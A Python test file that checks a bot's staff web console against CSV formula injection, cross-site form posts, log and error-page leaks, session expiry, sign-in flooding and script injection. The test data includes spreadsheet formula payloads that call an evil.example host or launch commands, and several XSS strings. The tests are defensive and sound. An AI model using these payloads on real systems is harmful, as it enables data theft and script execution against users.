"""Attacks on the console over HTTP, each one a tester tried: formulas in CSV downloads, forms from another site
(login CSRF included), unreadable forms, errors that would leak, sign-in links in the access log, idle and replaced
sessions, floods of forged links, and markup in names and titles."""

from __future__ import annotations

import csv
import io
import logging
import re
import secrets
from datetime import timedelta

import pytest
from sqlalchemy import select

from bot.console.edits import KnowledgeEditor
from bot.console.web import COOKIE
from bot.db.models import ConsoleSignIn, KnowledgeEdit, UnansweredQuestion
from bot.users.roles import Role, Staff
from tests.bot.console.conftest import ADVISOR, COORDINATOR, Site
from tests.bot.console.test_editor import open_editor

TOPIC = "housing-allowance"
EVIL = "https://evil.example"
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak","click me")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C notepad'!A0",
)


async def edits(site: Site) -> int:
    async with site.console.sessionmaker() as session:
        return len((await session.execute(select(KnowledgeEdit.id))).scalars().all())


async def test_csv_cells_never_start_a_formula(site: Site) -> None:
    """A newcomer's question is a cell of the unanswered CSV: `=HYPERLINK(...)` must stay text in a spreadsheet."""
    async with site.console.sessionmaker() as session:
        for text in FORMULAS:
            session.add(UnansweredQuestion(locale="en", text=text, asked_at=site.clock.now()))
        await session.commit()
    await site.sign_in(ADVISOR)
    response = await site.client.get("/console/reports/unanswered.csv")
    assert response.status == 200
    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    cells = [row[0] for row in rows[1:]]
    assert sorted(c.removeprefix("'") for c in cells) == sorted(FORMULAS)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    page = await (await site.client.get("/console/unanswered")).text()
    assert "=HYPERLINK(&#34;https://evil.example/?leak&#34;,&#34;click me&#34;)" in page  # shown as typed


async def test_a_sign_in_form_from_another_site_is_refused(site: Site) -> None:
    """Login CSRF: a page elsewhere posts the attacker's own link so the victim works in the attacker's session."""
    token = await site.link(ADVISOR)
    response = await site.client.post(
        "/console/sign-in", data={"token": token}, headers={"Origin": EVIL}, allow_redirects=False
    )
    assert response.status == 403 and "another web site" in await response.text()
    assert COOKIE not in response.cookies
    async with site.console.sessionmaker() as session:
        assert (await session.execute(select(ConsoleSignIn.used_at))).scalar_one() is None, (
            "the link still works"
        )
    # From the console's own address (as the browser names it behind the HTTPS proxy) it signs in.
    response = await site.client.post(
        "/console/sign-in",
        data={"token": token},
        headers={"Origin": "https://console.example.fi"},
        allow_redirects=False,
    )
    assert response.status == 303 and COOKIE in response.cookies


async def test_forms_from_another_site_change_nothing_even_with_the_token(site: Site) -> None:
    await site.sign_in(COORDINATOR)
    form = await open_editor(site, "fi")
    form["answer"] += "\nUusi lause."
    for origin in (EVIL, "null", "https://console.example.fi.evil.example"):
        response = await site.client.post(
            f"/console/kb/{TOPIC}/fi",
            data=form,
            headers={"Origin": origin},
            allow_redirects=False,
        )
        assert response.status == 403 and "another web site" in await response.text(), origin
    assert await edits(site) == 0
    out = await site.client.post(
        "/console/sign-out", data={"csrf": form["csrf"]}, headers={"Origin": EVIL}, allow_redirects=False
    )
    assert out.status == 403
    assert (await site.client.get("/console/", allow_redirects=False)).status == 200, "still signed in"
    own = f"http://{site.client.host}:{site.client.port}"
    saved = await site.client.post(
        f"/console/kb/{TOPIC}/fi", data=form, headers={"Origin": own}, allow_redirects=False
    )
    assert saved.status == 303 and await edits(site) == 1


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/x-www-form-urlencoded; charset=x-no-such-charset", b"token=abc&csrf=abc"),
        (
            "multipart/form-data; boundary=zz",
            b'--zz\r\nContent-Disposition: form-data; name="csrf"\r\nbroken',
        ),
        ("application/x-www-form-urlencoded; charset=utf-16", b"\xff\xfe\x00\xd8"),
    ],
)
async def test_unreadable_forms_get_a_page_not_a_crash(site: Site, content_type: str, body: bytes) -> None:
    for signed_in in (False, True):
        if signed_in:
            await site.sign_in(COORDINATOR)
        path = f"/console/kb/{TOPIC}/fi" if signed_in else "/console/sign-in"
        response = await site.client.post(
            path, data=body, headers={"Content-Type": content_type}, allow_redirects=False
        )
        text = await response.text()
        assert response.status == 400, (path, response.status, text[:200])
        assert "cannot read" in text and "Traceback" not in text
    assert await edits(site) == 0


async def test_an_error_page_and_log_say_nothing_of_what_was_sent(
    site: Site, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    secret = "Zahra asked about her residence permit"

    async def broken(self: KnowledgeEditor, topic: str, locale: str, form: object, *_: object) -> None:
        raise ValueError(f"cannot store {form!r}")  # as a database error quotes the statement's parameters

    monkeypatch.setattr(KnowledgeEditor, "save", broken)
    await site.sign_in(COORDINATOR)
    form = await open_editor(site, "fi")
    caplog.set_level(logging.INFO)
    response = await site.client.post(f"/console/kb/{TOPIC}/fi", data={**form, "answer": secret})
    text = await response.text()
    assert response.status == 500 and "Something went wrong" in text
    assert secret not in text and "Traceback" not in text and "ValueError" not in text
    assert response.headers["Content-Security-Policy"].startswith("default-src 'self'")
    logged = "\n".join(r.getMessage() + (r.exc_text or "") for r in caplog.records)
    assert "ValueError" in logged and "/kb/{topic}/{locale}" in logged, "the log says what failed where"
    assert secret not in logged


async def test_sign_in_links_never_reach_the_access_log(site: Site, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="aiohttp.access")
    token = await site.link(ADVISOR)
    assert (await site.client.get(f"/console/sign-in/{token}")).status == 200
    lines = [r.getMessage() for r in caplog.records if r.name == "aiohttp.access"]
    assert any("/console/sign-in/…" in line for line in lines), lines
    assert not any(token in line for line in lines)


async def test_an_idle_session_ends_an_active_one_lasts_eight_hours(site: Site) -> None:
    await site.sign_in(ADVISOR)
    for _ in range(4):  # a request every 1 h 50 min: 7 h 20 min in all
        site.clock.advance(timedelta(hours=1, minutes=50))
        assert (await site.client.get("/console/", allow_redirects=False)).status == 200
    site.clock.advance(timedelta(minutes=41))  # eight hours and a minute since the sign-in
    assert (await site.client.get("/console/", allow_redirects=False)).status == 303
    cookie = await site.sign_in(ADVISOR)
    site.clock.advance(timedelta(hours=2))  # two hours without a request
    after = await site.client.get("/console/", allow_redirects=False)
    assert after.status == 303 and after.headers["Location"] == "/console/sign-in"
    form = {"csrf": "x", "title": "x", "answer": "a long answer written for two hours", "revision": "0"}
    late = await site.client.post(f"/console/kb/{TOPIC}/en", data=form, allow_redirects=False)
    assert late.status == 403 and "Your session has ended" in await late.text()
    site.clock.advance(timedelta(seconds=-1))  # the ended session does not come back, whatever the clock says
    site.client.session.cookie_jar.update_cookies({COOKIE: cookie})
    assert (await site.client.get("/console/", allow_redirects=False)).status == 303


async def test_signing_in_again_ends_the_browsers_previous_session(site: Site) -> None:
    """The session a browser had (or an attacker planted) never survives a sign-in in that browser."""
    old = await site.sign_in(ADVISOR)
    new = await site.sign_in(COORDINATOR)  # the advisor's cookie is sent along with this sign-in
    assert new != old
    assert (await site.client.get("/console/kb", allow_redirects=False)).status == 200
    site.client.session.cookie_jar.update_cookies({COOKIE: old})
    assert (await site.client.get("/console/", allow_redirects=False)).status == 303


async def test_a_flood_of_forged_links_is_held_back(site: Site) -> None:
    for _ in range(20):
        forged = await site.client.post(
            "/console/sign-in", data={"token": secrets.token_urlsafe(32)}, allow_redirects=False
        )
        assert forged.status == 403
    token = await site.link(ADVISOR)
    held = await site.client.post("/console/sign-in", data={"token": token}, allow_redirects=False)
    assert held.status == 429 and "Too many sign-in attempts" in await held.text()
    assert held.headers["Retry-After"] == "600" and COOKIE not in held.cookies
    site.clock.advance(timedelta(minutes=10))
    await site.sign_in(ADVISOR)  # a fresh link works again after ten minutes
    assert (await site.client.get("/console/", allow_redirects=False)).status == 200


async def test_markup_in_names_and_titles_is_text_everywhere(site: Site) -> None:
    """Regression guard (this held before): Telegram first names, titles and newcomers' questions are anyone's
    text; `<script>` and `"><img onerror>` stay text on every page."""
    async with site.console.sessionmaker() as session:
        question = '</script><script>alert(5)</script>"><img src=x onerror=alert(6)>'
        session.add(UnansweredQuestion(locale="en", text=question, asked_at=site.clock.now()))
        await session.commit()
    name = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
    evil = Staff(COORDINATOR.id, name, Role.COORDINATOR)
    await site.sign_in(evil)
    form = await open_editor(site, "en")
    title = "</script><script>alert(3)</script><img src=x onerror=alert(4)>"
    saved = await site.client.post(
        f"/console/kb/{TOPIC}/en", data={**form, "title": title}, allow_redirects=False
    )
    assert saved.status == 303, await saved.text()
    pages = [
        await (await site.client.get(path)).text()
        for path in ("/console/", f"/console/kb/{TOPIC}/en", "/console/kb", "/console/unanswered")
    ]
    for page in pages:
        assert (
            "<script>alert" not in page
            and "<img src=x" not in page
            and "onerror=alert" not in re.sub(r"onerror=alert\(\d\)&gt;", "", page)
        )
    assert "&lt;/script&gt;&lt;script&gt;alert(5)" in pages[3], "the question is shown as text"
    assert re.search(r"&#34;&gt;&lt;img src=x onerror=alert\(1\)&gt;", pages[0]), "the name is shown as text"
    editor = pages[1]
    assert "&lt;/script&gt;&lt;script&gt;alert(3)" in editor


async def test_https_consoles_ask_for_https_only_and_dead_cookies_are_dropped(site: Site) -> None:
    await site.sign_in(ADVISOR)
    response = await site.client.get("/console/")
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000"
    site.clock.advance(timedelta(hours=2))
    idle = await site.client.get("/console/", allow_redirects=False)
    assert idle.status == 303 and 'kototori_console=""' in idle.headers["Set-Cookie"]
    site.console.secure = False  # plain HTTP (the demo): the header would mean nothing
    assert "Strict-Transport-Security" not in (await site.client.get("/console/sign-in")).headers


async def test_advisors_cannot_post_to_coordinators_routes_nor_reach_other_texts_by_id(site: Site) -> None:
    """Regression guard (these held before): every coordinator's form refuses an advisor with a valid CSRF
    token, and an edit of one text cannot be restored through another text's address."""
    await site.sign_in(COORDINATOR)
    form = await open_editor(site, "en")
    form["answer"] += "\nOne more sentence."
    assert (await site.client.post(f"/console/kb/{TOPIC}/en", data=form, allow_redirects=False)).status == 303
    async with site.console.sessionmaker() as session:
        edit_id = (await session.execute(select(KnowledgeEdit.id))).scalar_one()
    other = await open_editor(site, "fi")
    wrong = await site.client.post(
        f"/console/kb/{TOPIC}/fi/revert",
        data={"csrf": other["csrf"], "edit": str(edit_id), "revision": "0"},
        allow_redirects=False,
    )
    assert wrong.status == 404 and await edits(site) == 1
    site.sign_out_locally()
    await site.sign_in(ADVISOR)
    csrf = await site.csrf()
    for path, data in (
        (f"/console/kb/{TOPIC}/en", {**form, "csrf": csrf, "revision": "1"}),
        (f"/console/kb/{TOPIC}/en/review", {"csrf": csrf, "status": "native-reviewed", "revision": "1"}),
        (f"/console/kb/{TOPIC}/en/revert", {"csrf": csrf, "edit": "0", "revision": "1"}),
        ("/console/unanswered/example", {"csrf": csrf, "topic": TOPIC, "locale": "en", "question": "x y"}),
    ):
        response = await site.client.post(path, data=data, allow_redirects=False)
        assert response.status == 403 and "for coordinators" in await response.text(), path
    assert await edits(site) == 1
